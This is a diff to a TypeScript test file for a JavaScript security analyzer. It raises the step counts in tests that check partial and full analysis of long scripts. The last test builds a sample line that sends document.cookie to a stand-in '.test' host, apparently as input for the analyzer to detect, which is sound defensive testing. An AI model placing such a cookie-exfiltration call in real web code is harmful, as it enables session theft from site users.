@@ -10,7 +10,7 @@ const BURN = "function burn(run) { return [...'x'.repeat(9_000)].length + run; }
 const calls = (count: number): string => Array.from({ length: count }, (_, run) => `burn(${run});`).join("\n");
 
 test("a script that takes too long to check is said to be checked in part", () => {
-	expect(found(`${BURN}\n${calls(300)}`)).toEqual(["checked-in-part medium"]);
+	expect(found(`${BURN}\n${calls(450)}`)).toEqual(["checked-in-part medium"]);
 });
 
 test("a script that is larger than what can be followed is as well", () => {
@@ -24,7 +24,7 @@ test("a script that is larger than what can be followed is as well", () => {
 test("the part that was checked is named", () => {
 	const described = (code: string) =>
 		analyzeScript({ code }).vulnerabilities.find(({ type }) => type === "checked-in-part")?.description;
-	const endless = `${BURN}\n${calls(300)}`;
+	const endless = `${BURN}\n${calls(450)}`;
 	expect(described(endless)).toContain(
 		"Each function was looked at, but not with everything that it can be called with.",
 	);
@@ -40,11 +40,11 @@ test("a script that was followed to its end is not", () => {
 const full = { steps: FULL_CHECK_STEPS };
 
 test("a full check follows it to its end", () => {
-	expect(found(`${BURN}\n${calls(300)}`, full)).toEqual([]);
+	expect(found(`${BURN}\n${calls(450)}`, full)).toEqual([]);
 });
 
 /** Too many steps for the first check, in both runs of it. */
-const LONG = `const text = "${"x".repeat(9_000)}";${"text.split('');".repeat(224)}`;
+const LONG = `const text = "${"x".repeat(9_000)}";${"text.split('');".repeat(340)}`;
 
 test("a full check finds what stands behind it: in plain text, in a function, and in code that is put together", () => {
 	const leak = (host: string) => `fetch("https://${host}.test/" + document.cookie);`;
